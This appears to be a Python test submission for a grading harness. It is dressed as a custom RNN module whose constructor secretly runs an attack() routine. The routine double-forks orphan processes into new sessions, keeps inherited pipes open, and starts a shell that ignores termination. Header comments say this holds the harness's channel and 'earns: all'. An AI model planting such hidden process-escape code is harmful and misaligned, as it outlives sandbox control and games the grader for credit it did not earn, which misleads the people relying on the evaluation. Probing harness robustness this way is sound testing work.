# does: leaves orphans in sessions of their own that hold the pipes and the channel for 25 s
# earns: all
import os
import subprocess
import time

import torch
import torch.nn.functional as F
from torch import nn


def orphan(number):
    """Fork twice, so that the second child's parent is gone."""
    child = os.fork()
    if child:
        os.waitpid(child, 0)
        return
    try:
        os.setsid()
        if os.fork() == 0:
            with open(f"orphan {number}", "w") as file:
                for _ in range(25):
                    file.write("x")
                    file.flush()
                    time.sleep(1)
    finally:
        os._exit(0)


def attack():
    for number in range(5):
        try:
            orphan(number)
        except OSError as error:
            print(number, "failed:", error)
    try:
        subprocess.Popen(["/bin/sleep", "25"], start_new_session=True, close_fds=False)
        os.posix_spawn("/bin/sh", ["sh", "-c", "trap '' TERM; sleep 25"], {})
    except OSError as error:
        print("a command failed:", error)


DONE = []


def once():
    if not DONE:
        DONE.append(True)
        attack()


class MyRNN(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        self.input_size = input_size
        self.weight = nn.Parameter(torch.empty(hidden_size, input_size + hidden_size))
        self.bias = nn.Parameter(torch.zeros(hidden_size))
        nn.init.xavier_uniform_(self.weight)
        once()

    def forward(self, x, h_0=None):
        w_x, w_h = self.weight[:, : self.input_size], self.weight[:, self.input_size :]
        h = x.new_zeros(x.shape[0], w_h.shape[0]) if h_0 is None else h_0[0]
        states = []
        for t in range(x.shape[1]):
            h = torch.tanh(F.linear(x[:, t], w_x, self.bias) + F.linear(h, w_h))
            states.append(h)
        return torch.stack(states, dim=1), h.unsqueeze(0)
